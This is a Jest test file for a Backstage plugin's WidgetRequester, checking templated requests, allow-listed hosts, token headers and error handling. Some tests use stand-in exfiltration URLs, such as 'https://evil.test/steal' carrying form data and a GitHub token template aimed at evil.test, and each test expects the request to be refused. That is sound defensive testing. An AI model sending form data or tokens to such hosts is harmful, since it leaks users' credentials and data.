import { githubAuthApiRef } from '@backstage/core-plugin-api';
import { mockApis } from '@backstage/test-utils';
import { http, HttpResponse } from 'msw';
import { setupRecordingServer } from '../__testUtils__/mswServer';
import { markingFetchApi } from '../__testUtils__/renderWidgetForm';
import { TemplateResolver } from '../templates/TemplateResolver';
import { WidgetRequester } from './WidgetRequester';

const { server, seen } = setupRecordingServer();
const github = { getAccessToken: jest.fn(async () => 'gh-token') };

function requester() {
  const fetchApi = markingFetchApi();
  const resolver = TemplateResolver.create({
    configApi: mockApis.config(),
    identityApi: mockApis.identity({ token: 'backstage-token' }),
    apiHolder: {
      get: ref => (ref.id === githubAuthApiRef.id ? github : undefined) as any,
    },
    backendBaseUrl: 'http://backstage.test',
  });
  return {
    fetchApi,
    requester: WidgetRequester.create({
      resolver,
      fetchApi,
      policy: {
        backendBaseUrl: 'http://backstage.test',
        allowedHosts: ['api.allowed.test'],
      },
    }),
  };
}

const formData = { name: 'Marek', count: 3, empty: '' };

describe('WidgetRequester', () => {
  beforeEach(() => jest.clearAllMocks());

  it('sends backend requests through fetchApi with templated url, headers and body', async () => {
    let received: { url: string; headers: Headers; body: unknown } | undefined;
    server.use(
      http.post(
        'http://backstage.test/api/proxy/svc/:name',
        async ({ request }) => {
          received = {
            url: request.url,
            headers: request.headers,
            body: await request.json(),
          };
          return HttpResponse.json({ ok: true });
        },
      ),
    );
    const { requester: r, fetchApi } = requester();
    const result = await r.fetchJson(
      {
        'fetch:url':
          '$${{backend.baseUrl}}/api/proxy/svc/$${{current.name}}?n=$${{current.count}}',
        'fetch:method': 'POST',
        'fetch:headers': {
          'x-user': '$${{current.name}}',
          'x-empty': '$${{current.empty}}',
        },
        'fetch:body': {
          count: '$${{current.count}}',
          text: 'n=$${{current.count}}',
          skip: '$${{current.nope}}',
        },
      },
      { formData },
    );
    expect(result).toEqual({ ok: true });
    expect(fetchApi.fetch).toHaveBeenCalledTimes(1);
    expect(received!.url).toBe('http://backstage.test/api/proxy/svc/Marek?n=3');
    expect(received!.headers.get('x-via-fetch-api')).toBe('yes');
    expect(received!.headers.get('x-user')).toBe('Marek');
    expect(received!.headers.has('x-empty')).toBe(false);
    expect(received!.headers.get('content-type')).toBe('application/json');
    expect(received!.body).toEqual({ count: 3, text: 'n=3' });
  });

  it('resolves relative URLs against the backend', async () => {
    server.use(
      http.get('http://backstage.test/api/proxy/rel', () =>
        HttpResponse.json([1]),
      ),
    );
    expect(
      await requester().requester.fetchJson(
        { 'fetch:url': '/api/proxy/rel' },
        { formData },
      ),
    ).toEqual([1]);
  });

  it('sends allow-listed requests with plain fetch, without cookies', async () => {
    const spy = jest.spyOn(globalThis, 'fetch');
    let headers: Headers | undefined;
    server.use(
      http.get('https://api.allowed.test/data', ({ request }) => {
        headers = request.headers;
        return HttpResponse.json({ v: 1 });
      }),
    );
    const { requester: r, fetchApi } = requester();
    await r.fetchJson(
      { 'fetch:url': 'https://api.allowed.test/data' },
      { formData },
    );
    expect(fetchApi.fetch).not.toHaveBeenCalled();
    expect(headers!.has('x-via-fetch-api')).toBe(false);
    expect(spy.mock.calls[0][1]).toMatchObject({
      credentials: 'omit',
      redirect: 'error',
    });
    spy.mockRestore();
  });

  it('never requests a host outside the allow-list', async () => {
    const { requester: r, fetchApi } = requester();
    await expect(
      r.fetchJson(
        { 'fetch:url': 'https://evil.test/steal?n=$${{current.name}}' },
        { formData },
      ),
    ).rejects.toThrow(/evil\.test are not allowed/);
    expect(seen).toHaveLength(0);
    expect(fetchApi.fetch).not.toHaveBeenCalled();
  });

  it('refuses token templates off-list without even acquiring the token', async () => {
    const { requester: r } = requester();
    await expect(
      r.fetchJson(
        {
          'fetch:url': 'https://evil.test/x',
          'fetch:headers': {
            Authorization: 'Bearer $${{githubAuthApi.token}}',
          },
        },
        { formData },
      ),
    ).rejects.toThrow(/not allowed/);
    expect(github.getAccessToken).not.toHaveBeenCalled();
    expect(seen).toHaveLength(0);
  });

  it('sends token templates to an allow-listed host', async () => {
    let auth: string | null = null;
    server.use(
      http.get('https://api.allowed.test/me', ({ request }) => {
        auth = request.headers.get('authorization');
        return HttpResponse.json({});
      }),
    );
    await requester().requester.fetchJson(
      {
        'fetch:url': 'https://api.allowed.test/me',
        'fetch:headers': { Authorization: 'Bearer $${{githubAuthApi.token}}' },
      },
      { formData },
    );
    expect(auth).toBe('Bearer gh-token');
  });

  it('refuses a host chosen by form data when it is off-list', async () => {
    await expect(
      requester().requester.fetchJson(
        { 'fetch:url': 'https://$${{current.host}}/x' },
        { formData: { host: 'evil.test' } },
      ),
    ).rejects.toThrow(/not allowed/);
    expect(seen).toHaveLength(0);
  });

  it('turns an error answer into a ResponseError and non-JSON into an InputError', async () => {
    server.use(
      http.get('http://backstage.test/api/proxy/fail', () =>
        HttpResponse.json(
          { error: { name: 'NotFoundError', message: 'no such thing' } },
          { status: 404 },
        ),
      ),
      http.get('http://backstage.test/api/proxy/text', () =>
        HttpResponse.text('hello'),
      ),
    );
    const { requester: r } = requester();
    await expect(
      r.fetchJson({ 'fetch:url': '/api/proxy/fail' }, { formData }),
    ).rejects.toThrow(/no such thing/);
    await expect(
      r.fetchJson({ 'fetch:url': '/api/proxy/text' }, { formData }),
    ).rejects.toThrow(/not JSON/);
  });
});
